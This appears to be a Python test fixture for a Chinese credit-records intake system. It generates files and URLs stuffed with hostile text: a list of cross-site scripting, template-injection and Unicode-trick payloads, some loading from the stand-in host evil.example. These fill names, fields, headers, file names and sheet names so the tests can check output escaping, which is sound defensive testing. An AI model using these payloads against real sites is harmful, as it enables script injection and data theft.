"""Text as an attacker in a department would write it, in every place a department can write in: names, numbers, authorities,
facts, extra columns and their heads, sheets, file names. Handed in as any file is (security.md row 28)."""

from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from urllib.parse import quote

import openpyxl
import yaml

from tests.intake import made
from tests.intake.made import Organisation, Row, SourceUnit
from xinyong.kernel import clock

LIBRARY = Path(made.submit.__file__).parent.parent / "catalogue" / "library"
#: Where a payload that runs leaves its mark; ``HOST`` is where one that loads something would ask.
HIT, HOST = "xinyongHit", "evil.example"
_RUN = f"window.{HIT}=1,alert(1)"

PAYLOADS: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"javascript:{_RUN}",
    f"jAvAsCrIpT&colon;{_RUN}",
    f"</title><script>{_RUN}</script>",
    f"</textarea></select><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f'<a href="javascript:{_RUN}" autofocus onfocus="{_RUN}">点我</a>',
    f'<iframe srcdoc="<script>parent.{HIT}=1</script>"></iframe>',
    f"<iframe src=//{HOST}/frame></iframe>",
    f"<style>*{{background:url(//{HOST}/style)}}</style>",
    f'" style="background:url(//{HOST}/attribute)" x="',
    f"<link rel=stylesheet href=//{HOST}/sheet>",
    f'<meta http-equiv="refresh" content="0;url=//{HOST}/refresh">',
    f"<base href=//{HOST}/>",
    f"<form action=//{HOST}/form><input name=q autofocus onfocus={_RUN}></form>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" tabindex=1 x="',
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video><audio src=//{HOST}/audio autoplay>",
    f"<object data=//{HOST}/object></object><embed src=//{HOST}/embed>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    "{{ 7*7 }}{% debug %}{% load static %}{{ settings.SECRET_KEY }}",
    "${7*7}#{7*7}<%= 7*7 %>@{7*7}[[7*7]]",
    "%(name)s %s {0} {0.__class__} \\u003cscript\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;img src=x onerror={_RUN}&#62;",
    f"&amp;lt;svg onload={_RUN}&amp;gt;&#x3c;script&#x3e;",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "\u202e技科限有\u202d\u2066隔离\u2069\u200b零宽\ufeff",
    "&#0;%00&#x80;\u2400\u0085\u2028\u2029行",
    "`-alert`1`-`",
    f"http://{HOST}/plain //{HOST}/relative data:text/html,<script>{_RUN}</script>",
)


def text(number: int) -> str:
    """A payload, told apart by its number, which also makes it a text nobody else has."""
    return f"〔{number}〕{PAYLOADS[number % len(PAYLOADS)]}"


def addresses() -> list[str]:
    """Addresses that bring a payload of their own, where a page repeats what it was asked."""
    asked = [quote(payload, safe="") for payload in PAYLOADS]
    return [
        *(f"/search?q={one}" for one in asked[:12]), f"/search?q=云溪&class={asked[1]}&region={asked[2]}", f"/search?q=云溪&after={asked[3]}",
        f"/verify/?check_code={asked[4]}", f"/subject/{asked[5]}/", f"/publicity/admin-licence-org/?department={asked[6]}&year={asked[7]}",
        f"/lists/{asked[8]}/", f"/office/sign-in?next={asked[3]}", f"/{asked[0]}", f"/static/{asked[9]}",
    ]  # fmt: skip


def files(
    folder: Path, unit: SourceUnit, known: list[Organisation], *, document: Callable[[], str]
) -> Iterator[tuple[Path, str]]:
    """Files to hand in, each with its catalogue item: an organisation named by every payload, licences and penalties of
    organisations, rows that no code links, a workbook with hostile sheet names and heads."""
    named = [Organisation(made.code_of(), f"云溪市{text(n)}有限公司") for n in range(len(PAYLOADS))]
    rows: list[Row] = [
        made.register_row(
            who, unit, ZTMC=who.name, FDDBR=text(n + 100), JYFW=text(n + 150), ZS=text(n + 170), CYM=text(n + 190)
        )
        for n, who in enumerate(named)
    ]  # fmt: skip
    yield made.csv_file(folder / f"{_name(0)}.csv", _cut(rows, "organisation-register")), "organisation-register"
    subjects = [known[n % len(known)] for n in range(len(PAYLOADS))]  # a name in these items must not hold < > " ' | ^
    day, end = f"{clock.today() - timedelta(days=2)}", f"{clock.today() + timedelta(days=900)}"
    dated = {"CF_JDRQ": day, "CF_YXQ": "2099-12-31"}
    rows = [
        made.penalty_row(
            who, unit, **dated, CF_WSH=f"{document()}{text(n + 200)}", CF_WFXW=text(n + 300), CF_SY=text(n + 400), CF_YJ=text(n + 500),
            CF_NR=text(n + 600), CF_BZ=text(n + 700),
        ) | {f"备注{PAYLOADS[n % 7]}": text(n + 800)}
        for n, who in enumerate(subjects)
    ]  # fmt: skip
    yield made.csv_file(folder / f"{_name(1)}.csv", _cut(rows, "admin-penalty-org")), "admin-penalty-org"
    rows = [
        made.licence_row(
            who, unit, XK_WSH=f"{document()}{text(n + 900)}", XK_NR=text(n + 1000), XK_XKWS=text(n + 1100), XK_BZ=text(n + 1200),
            XK_JDRQ=day, XK_YXQZ=day, XK_YXQZI=end,
        ) for n, who in enumerate(subjects)
    ]  # fmt: skip
    yield made.csv_file(folder / f"{_name(2)}.csv", _cut(rows, "admin-licence-org")), "admin-licence-org"
    faulty = [
        made.penalty_row(who, unit, CF_WSH=text(n + 1300), CF_JDRQ=text(n + 1400), CF_XDR_LB=text(n + 1500), CF_XDR_SHXYM=text(n + 1600))
        for n, who in enumerate(named)
    ]  # fmt: skip
    nameless = [
        made.penalty_row(who, unit, **dated, CF_WSH=document(), CF_XDR_SHXYM="", CF_XDR_MC=f"{known[0].name}{text(n + 1700)}")
        for n, who in enumerate(named)
    ]  # fmt: skip
    yield _workbook(folder / f"{_name(3)}.xlsx", [*faulty, *nameless]), "admin-penalty-org"


def _cut(rows: list[Row], item_id: str) -> list[Row]:
    """The rows with each text as long as its field takes."""
    item = yaml.safe_load((LIBRARY / f"{item_id}.yaml").read_text(encoding="utf-8"))
    longest = {field["code"]: field.get("length", 2000) for field in item["fields"]}
    return [{head: value[: longest.get(head, 2000)] for head, value in row.items()} for row in rows]


def _name(number: int) -> str:
    """A file name: no slash, no NUL, that is all a name must not hold."""
    return text(number).replace("/", "\u2215")[:120]


def _workbook(path: Path, rows: list[Row]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.title = "<svg onload=alert(1)>"[:31]
    heads = [*made.columns(rows), PAYLOADS[0], PAYLOADS[1]]
    sheet.append([f"标题{PAYLOADS[5]}"])
    sheet.append(heads)
    for n, row in enumerate(rows):
        sheet.append([row.get(head, text(n + 1800)) for head in heads])
    book.create_sheet('"><img src=x onerror=1>').append([PAYLOADS[2]])
    book.save(path)
    return path
